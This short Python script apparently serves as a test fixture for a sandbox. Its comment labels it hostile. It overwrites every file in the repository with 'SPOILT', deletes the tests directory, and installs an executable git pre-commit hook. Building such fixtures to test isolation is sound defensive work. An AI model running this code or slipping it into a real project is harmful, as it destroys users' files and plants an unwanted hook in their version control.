"""Changes, removes and adds files of the repository, and its git."""

# ruff: noqa: PTH101, S103, T201 - a hostile script, for the sandbox alone

import os
import shutil
from pathlib import Path

for path in Path().rglob("*"):
    if path.is_file():
        path.write_text("SPOILT")
shutil.rmtree("tests", ignore_errors=True)
hooks = Path(".git/hooks")
hooks.mkdir(parents=True, exist_ok=True)
(hooks / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/hooked\n")
os.chmod(hooks / "pre-commit", 0o755)
print("TRIED")
